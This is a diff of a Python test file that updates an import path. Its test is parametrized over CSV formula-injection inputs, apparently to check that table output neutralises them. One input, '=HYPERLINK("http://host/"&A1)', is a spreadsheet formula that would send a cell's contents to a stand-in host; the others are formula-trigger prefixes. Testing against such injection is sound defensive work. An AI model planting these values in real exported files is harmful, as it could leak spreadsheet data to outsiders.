@@ -4,7 +4,7 @@ import csv
 
 import numpy as np
 import pytest
-from deepchange.engine.transitions import Transitions, write_table
+from deepchange.engine.results.transitions import Transitions, write_table
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://host/"&A1)', "@SUM(A1)", "+1", "-1+2", "\t=1", "\r=1"])
